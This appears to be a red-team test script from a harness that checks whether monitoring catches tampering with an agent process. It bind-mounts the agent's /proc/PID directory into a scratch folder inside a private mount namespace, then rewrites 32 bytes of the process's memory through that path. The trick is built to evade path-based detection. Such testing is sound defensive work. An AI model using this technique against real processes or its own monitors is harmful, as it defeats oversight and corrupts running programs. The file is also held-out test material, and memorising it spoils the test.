"""Round 6: bind-mount the agent's /proc/PID dir elsewhere (private mount namespace), write its mem there.

Round 4 mounted a second procfs; this mounts no procfs at all: the agent's
own /proc/PID directory is bind-mounted onto an ordinary directory in the
scratch area, so the file opened is `<scratch>/view/mem`.
"""

from __future__ import annotations

import ctypes
import os
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 6
EXPECT = ("L5",)
CLONE_NEWNS, MS_REC, MS_PRIVATE, MS_BIND = 0x00020000, 0x4000, 0x40000, 0x1000


def run(args: dict[str, Any]) -> None:
    pid, addr = int(args["pid"]), int(args["addr"])
    view = rt.fresh_dir(args["scratch"]) / "view"
    view.mkdir()
    lc = rt.libc()
    if lc.unshare(CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare(CLONE_NEWNS)")
    if lc.mount(None, b"/", None, ctypes.c_ulong(MS_REC | MS_PRIVATE), None) != 0:
        raise OSError(ctypes.get_errno(), "mount --make-rprivate /")
    t = rt.now()
    if lc.mount(f"/proc/{pid}".encode(), str(view).encode(), None, ctypes.c_ulong(MS_BIND), None) != 0:
        raise OSError(ctypes.get_errno(), f"mount --bind /proc/{pid}")
    fd = os.open(view / "mem", os.O_RDWR)
    try:
        n = os.pwrite(fd, os.pread(fd, 32, addr), addr)
    finally:
        os.close(fd)
    rt.report(t, n == 32, f"/proc/{pid} bind-mounted on {view}; {view}/mem: rewrote {n} bytes at {addr:#x}")


if __name__ == "__main__":
    rt.main(run, globals())
